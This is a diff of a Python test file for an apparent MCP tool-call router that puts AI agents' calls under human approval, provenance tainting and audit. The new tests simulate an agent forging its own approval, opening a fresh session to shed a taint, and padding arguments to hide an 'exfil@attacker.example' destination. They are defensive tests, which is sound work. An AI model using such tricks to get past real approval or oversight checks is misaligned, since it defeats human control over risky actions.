@@ -23,6 +23,7 @@ from mcp.client.streamable_http import streamable_http_client
 from mcp.shared._httpx_utils import create_mcp_http_client
 
 from router import ApprovalStatus, ControlPlane, Settings
+from router import mcp as mcp_module
 from router.audit import AuditFilter
 from router.mcp import build_server
 from router.settings import AuditSettings
@@ -146,7 +147,7 @@ async def test_the_human_decides_a_held_call_in_the_client_by_elicitation(plane:
     assert (done.is_error, done.structured_content) == (False, {"table": "users"})
     [message] = asked
     assert "drop_table" in message
-    assert '"table":"users"' in message.replace(" ", "")
+    assert '  table = "users"' in message
     assert "claude" in message
     approvals = await plane.audit.query(AuditFilter(kind="approval"))
     assert [e.outcome for e in approvals] == ["requested", "approved", "redeemed"]
@@ -235,10 +236,10 @@ async def test_each_http_mcp_session_gets_its_own_stockade_session(tmp_path: Pat
 
 
 @contextlib.asynccontextmanager
-async def bearer_client(url: str, token: str) -> AsyncIterator[Client]:
+async def bearer_client(url: str, token: str, **headers: str) -> AsyncIterator[Client]:
     """An MCP client sending the token (the SDK leaves a client it was given open: closed here)."""
     async with (
-        create_mcp_http_client(headers={"Authorization": f"Bearer {token}"}) as http,
+        create_mcp_http_client(headers={"Authorization": f"Bearer {token}", **headers}) as http,
         Client(streamable_http_client(url, http_client=http)) as client,
     ):
         yield client
@@ -260,8 +261,12 @@ async def test_stateless_http_clients_get_a_session_per_agent_token(tmp_path: Pa
         async with bearer_client(url, tokens["cursor-bot"]) as same, bearer_client(url, tokens["claude-bot"]) as other:
             again = await same.call_tool("set_password", {"word": "hunter2-from-the-page"})
             theirs = await other.call_tool("set_password", {"word": "hunter2-from-the-page"})
+        # A stateless client naming an MCP session of its own making gets no fresh, untainted one.
+        async with bearer_client(url, tokens["cursor-bot"], **{"Mcp-Session-Id": "fresh-1"}) as forking:
+            forked = await forking.call_tool("set_password", {"word": "hunter2-from-the-page"})
     # The same agent task still knows what it read; another agent's session never saw the page.
     assert again.structured_content["reasons"] == ["provenance.untrusted_destination"]
+    assert forked.structured_content["reasons"] == ["provenance.untrusted_destination"]
     assert (theirs.is_error, theirs.structured_content) == (False, {"word": "hunter2-from-the-page"})
     audit = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
     sessions = {(e["agent"], e["session_id"]) for e in audit if e["kind"] == "decision"}
@@ -282,6 +287,9 @@ async def test_mcp_over_http_requires_a_token_when_agents_are_configured(tmp_pat
     assert ok.structured_content == {"word": "hi"}
     audit = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
     assert {e["agent"] for e in audit if e["kind"] == "decision"} == {"cursor-bot"}  # the token's, not --agent
+    turned_away = [e["result"]["message"] for e in audit if e["kind"] == "error" and e["outcome"] == "refused"]
+    # (the first: the readiness probe of the test's server helper, sent without a token)
+    assert turned_away[-2:] == ["MCP over HTTP: missing bearer token", "MCP over HTTP: unknown bearer token"]
 
 
 def test_mcp_refuses_to_listen_beyond_loopback_without_authentication(tmp_path: Path) -> None:
@@ -305,11 +313,14 @@ def test_a_bad_tools_file_is_a_clear_error_not_an_exception_group(tmp_path: Path
     assert "Traceback" not in done.stderr
 
 
-async def test_over_http_a_held_call_is_approved_in_the_client_and_completes(tmp_path: Path) -> None:
-    """allowed -> denied -> held -> approved (elicitation) -> completed, over streamable HTTP."""
+async def test_over_http_a_held_call_is_approved_out_of_band_and_its_retry_completes(tmp_path: Path) -> None:
+    """allowed -> denied -> held -> approved -> completed, over streamable HTTP. The client is not
+    asked (over HTTP whoever holds the connection would answer: the agent's token proves no
+    human); an approver decides with `stockade approvals`, and the model's plain retry runs."""
     tokens, principals = agent_tokens("cursor-bot")
     asked: list[str] = []
     yes = types.ElicitResult(action="accept", content={"approve": True})
+    env = {"STOCKADE_AUDIT__PATH": str(tmp_path / "audit.jsonl")}
     with mcp_http(tmp_path, {"STOCKADE_API_PRINCIPALS": principals}) as url:
         headers = {"Authorization": f"Bearer {tokens['cursor-bot']}"}
         async with (
@@ -322,12 +333,78 @@ async def test_over_http_a_held_call_is_approved_in_the_client_and_completes(tmp
             await client.call_tool("read_page", {"word": "hunter2-from-the-page"})
             denied = await client.call_tool("set_password", {"word": "hunter2-from-the-page"})
             assert denied.structured_content["reasons"] == ["provenance.untrusted_destination"]
-            done = await client.call_tool("drop_table", {"table": "users"})
-            assert (done.is_error, done.structured_content) == (False, {"table": "users"})
-    assert len(asked) == 1
+            held = await client.call_tool("drop_table", {"table": "users"})
+            assert held.structured_content["status"] == "pending_approval"
+            approval_id = held.structured_content["approval_id"]
+            # The client answers a question it was never asked: ignored, and audited.
+            forged = await client.call_tool(
+                "drop_table", {"table": "users"}, request_state=approval_id, input_responses={"approval": yes}
+            )
+            assert forged.structured_content["status"] == "pending_approval"
+            approve = ["approvals", "approve", approval_id, "--approver", "oncall"]
+            done = await asyncio.to_thread(subprocess.run, [STOCKADE, *approve], env={**os.environ, **env},
+                                           capture_output=True, text=True, timeout=120, check=False)  # fmt: skip
+            assert done.returncode == 0, done.stderr
+            ran = await client.call_tool("drop_table", {"table": "users"})
+            assert (ran.is_error, ran.structured_content) == (False, {"table": "users"})
+    assert asked == []
     audit = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
     trail = [(e["kind"], e["outcome"]) for e in audit if e.get("tool") == "drop_table" and e["kind"] != "policy"]
-    assert trail == [("decision", "require_approval"), ("approval", "requested"), ("approval", "approved"),
-                     ("decision", "allow"), ("approval", "redeemed"), ("execution", "ok")]  # fmt: skip
-    approved = next(e for e in audit if e["kind"] == "approval" and e["outcome"] == "approved")
-    assert approved["result"]["approver"].startswith("alice@example.com (via ")
+    assert trail == [("decision", "require_approval"), ("approval", "requested"), ("decision", "require_approval"),
+                     ("approval", "asked_again"), ("approval", "approved"), ("decision", "allow"),
+                     ("approval", "redeemed"), ("execution", "ok")]  # fmt: skip
+    ignored = [e for e in audit if e["kind"] == "error" and e["result"]["code"] == "approval.unsolicited_answer"]
+    assert [e["agent"] for e in ignored] == ["cursor-bot"]
+
+
+async def test_an_answer_the_server_did_not_ask_for_approves_nothing(plane: ControlPlane) -> None:
+    """A client (or whoever controls it) cannot approve its own held call by sending an answer."""
+    yes = types.ElicitResult(action="accept", content={"approve": True})
+    for ask in (False, True):
+        server = build_server(plane, agent="claude", principal="alice@example.com", elicitation=ask)
+        async with Client(server) as client:  # declares no elicitation: it is never asked
+            held = await client.call_tool("drop_table", {"table": f"t{ask}"})
+            approval_id = held.structured_content["approval_id"]
+            for state in (approval_id, "a-unknown"):
+                forged = await client.call_tool("drop_table", {"table": f"t{ask}"}, request_state=state,
+                                                input_responses={"approval": yes})  # fmt: skip
+                assert forged.structured_content["status"] == "pending_approval"
+        assert (await plane.get_approval(approval_id)).status is ApprovalStatus.PENDING
+    assert not await plane.audit.query(AuditFilter(kind="execution"))
+    ignored = [e for e in await plane.audit.query(AuditFilter(kind="error")) if e.outcome == "refused"]
+    assert len(ignored) == 4
+    assert {(e.result or {}).get("code") for e in ignored} == {"approval.unsolicited_answer"}
+
+
+async def test_the_human_is_asked_once_and_sees_the_destination_whatever_the_padding(plane: ControlPlane) -> None:
+    await plane.register(python_tool(
+        "send_report", ECHO, risk="high", capabilities=["sends_external"], destination_args=["to"],
+        input_schema={"type": "object", "properties": {"body": {"type": "string"}, "to": {"type": "string"}}},
+    ))  # fmt: skip
+    asked: list[str] = []
+    dismiss = types.ElicitResult(action="cancel")
+    args = {"body": "the quarterly summary is attached " * 300, "to": "exfil@attacker.example"}
+    server = build_server(plane, agent="claude", principal="alice@example.com")
+    async with Client(server, elicitation_callback=elicitation(dismiss, asked)) as client:
+        for _ in range(3):  # retried: the human is not asked again about the same call
+            held = await client.call_tool("send_report", args)
+            assert held.structured_content["status"] == "pending_approval"
+    [question] = asked
+    assert '  to = "exfil@attacker.example"' in question
+    assert question.index("to = ") < question.index("body = ")  # what decides where it goes, first
+    assert "characters)" in question  # the padding is cut, per value
+    assert len(question) < 2000
+
+
+async def test_an_idle_http_connection_gets_session_lost_not_a_fresh_session(
+    plane: ControlPlane, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(mcp_module, "HTTP_IDLE_S", 0.2)
+    plane.settings = plane.settings.model_copy(update={"session_idle_ttl_s": 0.3})
+    sessions = mcp_module._Sessions(plane, "alice@example.com", [])
+    first = await sessions.get("claude\0mcp-session-1", "claude")
+    await asyncio.sleep(1.0)  # idle past the (shortened) HTTP idle limit: closed by the keeper
+    again = await sessions.get("claude\0mcp-session-1", "claude")
+    assert (again.id, again.lost) == (first.id, True)
+    other = await sessions.get("claude\0mcp-session-2", "claude")  # a new connection: a new session
+    assert (other.lost, other.id != first.id) == (False, True)
